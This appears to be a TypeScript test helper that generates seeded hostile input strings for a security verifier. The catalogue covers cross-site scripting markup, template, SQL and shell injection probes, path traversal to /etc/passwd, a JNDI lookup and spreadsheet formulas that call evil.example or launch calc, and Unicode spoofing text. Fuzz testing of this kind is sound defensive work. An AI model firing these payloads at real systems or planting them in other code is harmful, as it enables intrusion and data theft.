/**
 * Strings that a verifier may send and that somebody once acted upon. Each is made for a mark, so that it can be
 * found again; markup of them carries the attribute `data-hit`, so that what was injected can be counted.
 */
import { mulberry32, pick } from "./random.ts";

const SCRIPT = "window.hit=1";

/** Markup and ways out of the places in which text stands. */
const MARKUP = [
  `<script data-hit>${SCRIPT}</script>`,
  `<img data-hit src=x onerror="${SCRIPT}">`,
  `<svg data-hit onload="${SCRIPT}">`,
  `<svg data-hit><script>${SCRIPT}</script></svg>`,
  `<iframe data-hit srcdoc="<script>parent.${SCRIPT}</script>">`,
  `<details data-hit open ontoggle="${SCRIPT}">`,
  `<input data-hit autofocus onfocus="${SCRIPT}">`,
  `<a data-hit href="javascript:${SCRIPT}">x</a>`,
  `<form data-hit action="https://evil.example"><button>x</button></form>`,
  `<base data-hit href="https://evil.example/">`,
  `<meta data-hit http-equiv="refresh" content="0;url=https://evil.example">`,
  `<link data-hit rel="stylesheet" href="https://evil.example/x.css">`,
  `<style data-hit>body{display:none}</style>`,
  `<object data-hit data="data:text/html,x">`,
  `<embed data-hit src="data:text/html,x">`,
  `<math data-hit><mtext><script>${SCRIPT}</script></mtext></math>`,
  `<template data-hit><script>${SCRIPT}</script></template>`,
  `<video data-hit><source onerror="${SCRIPT}"></video>`,
  `<marquee data-hit onstart="${SCRIPT}">`,
  `<body data-hit onload="${SCRIPT}">`,
];
const ESCAPES = [
  "",
  '">',
  "'>",
  "</title>",
  "</textarea>",
  "</script>",
  "</style>",
  "-->",
  "]]>",
  "`}",
  "*/",
];

/** What other readers than browsers act upon. */
const OTHERS = [
  "{{7*7}}",
  `\${7*7}`,
  "#{7*7}",
  "<%= 7*7 %>",
  "javascript:window.hit=1",
  "data:text/html,<script>window.hit=1</script>",
  "\\u003cscript\\u003ewindow.hit=1\\u003c/script\\u003e",
  "&lt;script&gt;window.hit=1&lt;/script&gt;",
  "%3Cscript%3Ewindow.hit=1%3C/script%3E",
  "__proto__",
  "constructor.prototype",
  "'; DROP TABLE node; --",
  "$(touch x)`touch x`|touch x;touch x",
  "../../../../etc/passwd",
  `\${jndi:ldap://evil.example/x}`,
  '"}\n{"level":50,"msg":"forged"}',
  "\r\n\r\nHTTP/1.1 200 OK\r\nSet-Cookie: a=b",
  "\u001b[2J\u001b[31mred\u001b[0m",
  "\u0007\u0008\u000b\u000c",
  "\u0085\u2028\u2029",
  "\u202edetsurt\u202c",
  "\u2066\u2067\u2068\u2069\u200e\u200f",
  "a\u200bb\u200cc\u200dd\u2060e\ufefff",
  "\u{e0041}\u{e0042}\u{e007f}",
  "trus\u0442ed",
  "Z\u0351\u036b\u0343\u036aa\u0342\u036bl\u033eg\u0364o",
  "\ufdfa\ufdfd",
  "\u{1f468}\u200d\u{1f469}\u200d\u{1f467}",
  "x".repeat(200),
  "\u00a0\u3000\u2003",
];

/** What spreadsheets calculate. */
const FORMULAS = [
  '=HYPERLINK("http://evil.example","x")',
  "=cmd|'/c calc'!A1",
  "+cmd|'/c calc'!A1",
  "-2+3",
  "@SUM(1)",
  "\t=1+1",
  "\r=1+1",
  " =1+1",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(1)",
  '=IMPORTXML("http://evil.example","//a")',
  '=WEBSERVICE("http://evil.example")',
  "%0A=1+1",
];

/** `count` strings, the same ones for the same seed; the written ones come first in any number. */
export function hostileStrings(count: number, seed: number): string[] {
  const random = mulberry32(seed);
  const parts = [...MARKUP, ...OTHERS, ...FORMULAS];
  const written = [...MARKUP.slice(0, 2), ...OTHERS.slice(15, 23), ...FORMULAS.slice(0, 3), ...parts];
  const all = new Set(written);
  while (all.size < count) {
    const around = [
      pick(random, ESCAPES),
      pick(random, ["", ...OTHERS.slice(0, 5), ...OTHERS.slice(15, 25)]),
    ];
    all.add(`${around[0]}${pick(random, parts)}${around[1]}`.slice(0, 220));
  }
  return [...all].slice(0, count);
}
